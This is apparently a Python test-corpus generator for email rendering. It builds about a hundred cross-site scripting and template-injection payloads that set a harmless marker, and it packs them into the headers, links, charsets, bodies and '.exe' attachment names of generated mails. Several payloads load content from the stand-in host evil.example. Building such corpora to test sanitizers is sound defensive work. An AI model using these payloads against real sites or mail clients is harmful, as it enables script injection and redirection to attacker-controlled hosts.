"""A hundred and more ways to make a page run something, and mails that carry them in every field."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from itertools import chain

_RUN = "window.__ran=1"
_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "oncut",
    "onwheel",
    "onscrollend",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "marquee",
    "select autofocus",
    "math",
    "a href=x",
    "style",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        chain(
            (f"<{tag} {handler}={_RUN}>" for tag in _TAGS for handler in _HANDLERS[:6]),
            (f'" {handler}={_RUN} x="' for handler in _HANDLERS),
            (f"' {handler}={_RUN} autofocus '" for handler in _HANDLERS[:6]),
            (
                f"<script>{_RUN}</script>",
                f"</script><script>{_RUN}</script>",
                f"</title><script>{_RUN}</script>",
                f"</style><script>{_RUN}</script>",
                f"</textarea><script>{_RUN}</script>",
                f"--><script>{_RUN}</script>",
                f"]]><script>{_RUN}</script>",
                f"<scr<script>ipt>{_RUN}</script>",
                f"javascript:{_RUN}",
                f"JaVaScRiPt:{_RUN}",
                f"java\tscript:{_RUN}",
                f"&#106;avascript:{_RUN}",
                f"data:text/html,<script>{_RUN}</script>",
                f"data:text/html;base64,{b64encode(f'<script>{_RUN}</script>'.encode()).decode()}",
                f"vbscript:{_RUN}",
                f"<a href='javascript:{_RUN}'>x</a>",
                f"<form action=javascript:{_RUN}><button>x",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content='0;url=//evil.example/'>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<img src=//evil.example/pixel>",
                "<style>@import '//evil.example/x.css'</style>",
                "<object data=//evil.example/x>",
                "<embed src=//evil.example/x>",
                "<iframe srcdoc='<script>parent.__ran=1</script>'>",
                "<svg><use href=//evil.example/x#y></svg>",
                f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
                f"<svg><foreignObject><script>{_RUN}</script>",
                f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
                f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
                f"<xmp><p title='</xmp><svg/onload={_RUN}>'>",
                f"<template><script>{_RUN}</script></template>",
                "{{ 7*7 }}{% raw %}",
                "{{request}}",
                "${7*7}",
                "<%= 7*7 %>",
                f"<div hx-get=//evil.example/x hx-trigger=load hx-on:load={_RUN}>",
                "<div hx-vals='js:{x:window.__ran=1}' hx-get=/ hx-trigger=load>",
                f"<!--[if true]><script>{_RUN}</script><![endif]-->",
                f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
                f"\x1b(J<script>{_RUN}</script>",
                f"＜script＞{_RUN}＜/script＞",
                f"<img/src/onerror={_RUN}//",
                f"<img src=x onerror\n={_RUN}>",
                f"\u202e<svg/onload={_RUN}>",
                f"\0<svg/onload={_RUN}>",
                f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={_RUN}>",
                f"<input type=hidden accesskey=X onclick={_RUN}>",
            ),
        )
    )
)


def lots(size: int = 12) -> Iterator[tuple[str, ...]]:
    """The payloads, some at a time."""
    return (PAYLOADS[at : at + size] for at in range(0, len(PAYLOADS), size))


def mail(number: int, some: tuple[str, ...]) -> bytes:
    """A mail with payloads in subject, names, addresses, other headers, the route, file names, links, charsets and bodies."""
    first, flat = some[0], [each.replace("\0", "").replace("\n", " ").replace("\t", " ") for each in some]

    def word(text: str) -> str:
        return f"=?utf-8?B?{b64encode(text.encode()).decode()}?="

    def named(at: int) -> str:
        return flat[at % len(flat)]

    head = [
        f"Return-Path: <{named(1)}@{named(2)}.example>",
        f"Received: from {named(3)} ({named(4)} [203.0.113.{number % 250}]) by mx.office.example"
        f" with {named(5)} id x; Thu, 13 Oct 2022 06:41:17 +0900",
        f"From: {word(first)} <{named(6).replace('<', '').replace('>', '')}@shop{number}.example>",
        f'Reply-To: "{named(7)}" <a@{named(8)}>',
        f"To: {word(named(9))} <reader@office.example>",
        f"Subject: {word(' '.join(some)[:300])}",
        f"Message-ID: <{named(10)}@{number}>",
        f"X-Mailer: {named(11)}",
        f"List-Unsubscribe: <{named(0)}>",
        f"Authentication-Results: {named(1)}; spf=fail smtp.mailfrom={named(2)}",
        f"DKIM-Signature: v=1; d={named(3)}; s={named(4)}; b=x; bh=y; a=rsa-sha256",
        "Date: Thu, 13 Oct 2022 06:41:12 +0900",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=b",
    ]
    links = "".join(
        f'<p><a href="{named(at).replace(chr(34), "&quot;")}">https://login{number}-{at}.example/{named(at + 1)}</a> {text}</p>'
        for at, text in enumerate(some)
    )
    hosts = "".join(
        f"<a href='https://{named(at)}.x{number}.example/?q={named(at)}#{named(at + 2)}'>{text}</a>"
        for at, text in enumerate(some)
    )
    parts = [
        f'--b\r\nContent-Type: text/html; charset="utf-8{first[:3]}"\r\n\r\n<html><body>{links}{hosts}</body></html>',
        "--b\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n" + "\r\n".join(some),
        *(
            f'--b\r\nContent-Type: {named(at)[:20]}; name="{text}"\r\nContent-Disposition: attachment; '
            f"filename*=utf-8''x{number}.exe; filename=\"{word(text)}\"\r\n\r\nMZ{text}"
            for at, text in enumerate(flat[:4])
        ),
        "--b--",
    ]
    return ("\r\n".join([*head, "", *parts]) + "\r\n").encode("utf-8", "replace")
